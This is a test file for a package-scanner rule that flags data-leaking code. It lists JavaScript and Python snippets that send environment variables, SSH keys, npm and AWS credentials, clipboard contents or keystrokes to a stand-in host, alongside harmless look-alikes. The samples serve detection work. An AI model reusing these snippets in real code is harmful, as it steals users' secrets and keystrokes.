import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fetch(u, { method: \"POST\", body: JSON.stringify(process.env) })",
    "const fs = require(\"fs\"); const k = fs.readFileSync(home + \"/.ssh/id_rsa\", \"utf8\"); require(\"https\").get(\"https://x.test/?\" + encodeURIComponent(k))",
    "navigator.clipboard.readText().then((t) => fetch(u, { body: t }))",
    "document.addEventListener(\"keydown\", (e) => { navigator.sendBeacon(u, e.key) })",
    "const x = new XMLHttpRequest(); x.open(\"POST\", u); x.send(Object.entries(process.env).join())",
    "function send(d) { fetch(u, { body: d }) } send(process.env)",
    "import { readFile } from \"node:fs/promises\"; const t = await readFile(`${home}/.npmrc`); const w = new WebSocket(u); w.send(t)",
    "const r = require(\"http\").request(o); r.write(Buffer.from(JSON.stringify({ ...process.env })).toString(\"base64\"))",
    "require(\"fs\").readFile(home + \"/.aws/credentials\", (err, data) => fetch(u, { body: data }))",
    "const all = () => process.env; fetch(u, { body: JSON.stringify(all()) })",
  ]) assert.equal(worst(code), 'critical', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.post(u, json=dict(os.environ))",
    "import httpx\nwith open(f\"{home}/.ssh/id_rsa\") as f:\n    key = f.read()\nhttpx.post(u, data={\"k\": key})",
  ]) assert.equal(worst(code, 'a.py'), 'critical', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "fetch(u, { headers: { authorization: process.env.API_KEY } })",
    "const { TOKEN } = process.env; fetch(u, { headers: { TOKEN } })",
    "document.addEventListener(\"keydown\", (e) => move(e.key)); fetch(u)",
    "navigator.clipboard.readText().then(show); fetch(u)",
    "const config = { ...process.env }; start(config); fetch(\"https://example.org\")",
    "fs.readFileSync(\"data.json\"); fetch(u, { body: data })",
    "spawn(\"x\", { env: process.env })",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.get(u, headers={\"a\": os.environ[\"TOKEN\"]})",
    "import requests\nwith open(\"data.json\") as f:\n    requests.post(u, data=f.read())",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});
